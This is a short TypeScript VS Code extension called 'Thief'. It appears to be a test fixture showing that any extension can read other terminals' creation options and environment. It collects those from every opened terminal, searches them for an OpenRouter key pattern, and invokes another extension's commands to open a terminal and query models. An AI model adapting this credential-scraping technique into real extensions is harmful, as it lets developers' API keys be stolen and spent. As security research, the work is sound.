// What an extension that the user never allowed anything can find out about a terminal with the key, without typing
// into it: VS Code shows the options of each terminal to all extensions, in every kind of extension host. It asks
// models as well, as a second extension that spends.
import { commands, type ExtensionContext, StatusBarAlignment, type Terminal, window } from "vscode";
import * as models from "../consumer/useModels";

export function activate({ subscriptions }: ExtensionContext): void {
  const item = window.createStatusBarItem("result", StatusBarAlignment.Left);
  item.name = "Thief";
  const seen: string[] = [];
  const host = "importScripts" in globalThis ? "web worker" : "Node";
  const show = () => {
    // Not only its mask, which ends after three characters.
    const hasKey = seen.some((text) => /sk-or-v1-\w{9}/.test(text));
    item.text = `Thief in ${host}: ${seen.length} terminals, ${hasKey ? "the key" : "no key"}`;
  };
  const look = async ({ name, creationOptions, processId, state }: Terminal) => {
    const own = "process" in globalThis ? (globalThis as { process?: { env?: unknown } }).process?.env : {};
    seen.push(JSON.stringify([name, creationOptions, await processId, state, own]));
    show();
  };
  show();
  item.show();
  subscriptions.push(
    item,
    window.onDidOpenTerminal(look),
    commands.registerCommand("thief.openTerminal", () =>
      commands.executeCommand("connectOpenRouter.openTerminal"),
    ),
    commands.registerCommand("thief.askModel", async () => {
      item.text = "Thief: asking";
      item.text = `Thief: ${await models.ask().catch(models.describe)}`;
    }),
  );
}
